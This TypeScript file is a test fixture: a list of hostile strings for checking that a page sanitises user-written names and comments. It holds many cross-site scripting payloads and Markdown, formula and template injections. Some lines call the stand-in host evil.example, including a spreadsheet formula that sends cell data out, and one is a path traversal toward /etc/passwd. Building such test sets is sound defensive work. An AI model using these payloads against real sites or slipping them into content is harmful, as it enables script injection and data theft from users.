/**
 * For tests: what somebody may write as a name, an explanation or a comment to make a page do something. Each one that
 * works calls `alert` or asks another machine for something.
 */
export const hostileTexts: readonly string[] = [
  // Elements that run.
  `<script>alert("script")</script>`,
  `<img src=x onerror=alert("img")>`,
  `<svg onload=alert("svg")>`,
  `<svg><script href="https://evil.example/svg.js"></script></svg>`,
  `<body onload=alert("body")>`,
  `<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>`,
  `<iframe src="javascript:parent.alert('frame')"></iframe>`,
  `<details open ontoggle=alert("toggle")>`,
  `<input autofocus onfocus=alert("focus")>`,
  `<video><source onerror=alert("video")></video>`,
  `<marquee onstart=alert("marquee")>`,
  `<xss style="animation-name:spin" onanimationstart=alert("animation")>`,
  `<object data="javascript:alert('object')"></object>`,
  // Out of where the text stands.
  `"><script>alert("attribute")</script>`,
  `' autofocus onfocus='alert("single")`,
  `" autofocus onfocus="alert('double')" x="`,
  `</textarea><script>alert("textarea")</script>`,
  `</title><script>alert("title")</script>`,
  `</script><script>alert("closed")</script>`,
  `--><script>alert("comment")</script><!--`,
  `</code></pre></details><script>alert("code")</script>`,
  `</option></select><img src=x onerror=alert("select")>`,
  `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert('mutated')&gt;">`,
  // Asks another machine.
  `<img src="https://evil.example/picture.png">`,
  `<link rel=stylesheet href=https://evil.example/a.css><link rel=prefetch href=//evil.example/b>`,
  `<style>@import "https://evil.example/c.css"; body{background:url(https://evil.example/d)}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/e">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/f"><button id=submit autofocus>go</button></form>`,
  // Through Markdown, formulas and templates.
  `[click](javascript:alert("link")) [data](data:text/html,<script>alert("data")</script>)`,
  `![picture](https://evil.example/g.png) ![x](x "onerror=alert('alt')")`,
  `<javascript:alert("auto")> [a]\n\n[a]: javascript:alert("reference")`,
  "```html\n</code></pre><script>alert('fence')</script>\n```",
  `$\\href{javascript:alert("formula")}{x}$ $\\includegraphics{https://evil.example/h.png}$`,
  `$\\htmlData{x="><img src=x onerror=alert('htmlData')>}{y}$ $\\style{background:url(//evil.example/i)}{z}$`,
  `{{constructor.constructor "alert('template')"}} {{{this}}} {{> head}} {{#with (lookup this "__proto__")}}`,
  // For the eye, the terminal and the spreadsheet.
  `\u202Etpircs\u202C \u001b]8;;https://evil.example/\u0007 \u0000 \u2028 \ud800 <img src=x onerror=alert("odd")>`,
  `=HYPERLINK("https://evil.example/"&A1,"<img src=x onerror=alert('cell')>")`,
  `__proto__ ../../../../etc/passwd %2e%2e%2f <a href="jav&#x09;ascript:alert('entity')" autofocus>constructor</a>`,
];
